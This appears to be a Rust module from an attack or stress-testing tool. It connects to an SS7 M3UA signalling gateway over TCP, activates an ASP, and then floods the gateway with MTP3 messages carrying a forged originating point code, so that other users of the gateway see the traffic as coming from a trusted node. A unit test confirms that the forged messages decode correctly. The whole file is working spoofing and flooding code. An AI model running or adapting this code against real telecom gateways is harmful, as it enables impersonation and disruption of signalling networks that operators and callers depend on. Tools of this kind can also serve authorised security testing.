//! MSUs over M3UA and TCP (RFC 4666 §3) from an ASP that may be there, in the name of a point code
//! that is not its own: to the gateway's other users they come from whom they trust.

use crate::sockets::{Numbers, Pace, SocketAttack};
use driver::{SocketOptions, tcp};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// The Routing Context of the attacker's own Application Server.
const CONTEXT: u32 = 3;
/// Whose name is used, and who is written to.
const FORGED: u32 = 2;
const VICTIM: u32 = 1;
/// A user of MTP3 that nobody is (ITU-T Q.704 §14.2.1).
const SERVICE: u8 = 15;
const NATIONAL: u8 = 2;
/// What each MSU says.
const PAYLOAD: &[u8] = b"forged";
/// Message classes and types, parameter tags (RFC 4666 §3.1.2, §3.2).
const ASP_UP: [u8; 2] = [3, 1];
const ASP_ACTIVE: [u8; 2] = [4, 1];
const DATA: [u8; 2] = [1, 1];
const ROUTING_CONTEXT: u16 = 0x0006;
const PROTOCOL_DATA: u16 = 0x0210;
/// Time for an answer, and for what is written.
const PATIENCE: Duration = Duration::from_millis(500);

fn parameter(out: &mut Vec<u8>, tag: u16, value: &[u8]) {
    out.extend_from_slice(&tag.to_be_bytes());
    // Values are shorter than a datagram.
    out.extend_from_slice(&u16::try_from(4 + value.len()).unwrap_or(u16::MAX).to_be_bytes());
    out.extend_from_slice(value);
    out.resize(out.len().next_multiple_of(4), 0);
}

fn message(kind: [u8; 2], parameters: &[u8]) -> Vec<u8> {
    let mut out = vec![1, 0, kind[0], kind[1]];
    out.extend_from_slice(&u32::try_from(8 + parameters.len()).unwrap_or(u32::MAX).to_be_bytes());
    out.extend_from_slice(parameters);
    out
}

fn active() -> Vec<u8> {
    let mut context = Vec::new();
    parameter(&mut context, ROUTING_CONTEXT, &CONTEXT.to_be_bytes());
    message(ASP_ACTIVE, &context)
}

fn forged(sls: u8) -> Vec<u8> {
    let mut data = Vec::new();
    data.extend_from_slice(&FORGED.to_be_bytes());
    data.extend_from_slice(&VICTIM.to_be_bytes());
    data.extend_from_slice(&[SERVICE, NATIONAL, 0, sls]);
    data.extend_from_slice(PAYLOAD);
    let mut parameters = Vec::new();
    parameter(&mut parameters, ROUTING_CONTEXT, &CONTEXT.to_be_bytes());
    parameter(&mut parameters, PROTOCOL_DATA, &data);
    message(DATA, &parameters)
}

/// An ASP that is active; its own point code it never uses.
fn greeted(attack: &SocketAttack) -> std::io::Result<TcpStream> {
    let source = SocketAddr::from((attack.sources.pick(0), 0));
    let options = SocketOptions::default();
    let mut stream = tcp::connect(Some(source), attack.target.into(), &options, |_| Ok(()))?;
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    for greeting in [message(ASP_UP, &[]), active()] {
        stream.write_all(&greeting)?;
        // The acknowledgement, and what may come with it.
        let _ = stream.read(&mut [0; 4_096])?;
    }
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// What the gateway says is not to stand in its way.
fn is_drained(stream: &mut TcpStream) -> bool {
    match stream.read(&mut [0; 16_384]) {
        Ok(length) => length > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let mut numbers = Numbers::new(9);
    let mut stream = None;
    let mut waiting: Vec<u8> = Vec::new();
    while let Some(due) = pace.due() {
        let Some(open) = stream.as_mut() else {
            waiting.clear();
            stream = greeted(attack).ok();
            continue;
        };
        if waiting.is_empty() {
            for _ in 0..due {
                let [sls, ..] = numbers.next().to_be_bytes();
                let msu = forged(sls & 15);
                pace.sent(msu.len());
                waiting.extend_from_slice(&msu);
            }
        }
        let written = match open.write(&waiting) {
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(0),
            other => other,
        };
        match written {
            Ok(octets) if is_drained(open) => drop(waiting.drain(..octets)),
            _ => stream = None,
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use m3ua::codec::{Data, Message, MessageType};

    #[test]
    fn what_is_sent_is_m3ua_in_the_name_of_another() {
        let bytes = forged(5);
        let read = Message::read(&bytes).unwrap();
        let data = Data::of(&read).unwrap();
        let inner = &data.protocol_data;
        let names = (inner.opc.number(), inner.dpc.number());
        assert_eq!((names, inner.sls, inner.payload), ((FORGED, VICTIM), 5, PAYLOAD));
        assert_eq!(data.routing_context.unwrap().0, CONTEXT);
        for (bytes, kind) in
            [(message(ASP_UP, &[]), MessageType::AspUp), (active(), MessageType::AspActive)]
        {
            assert_eq!(Message::read(&bytes).unwrap().kind, kind);
        }
    }
}
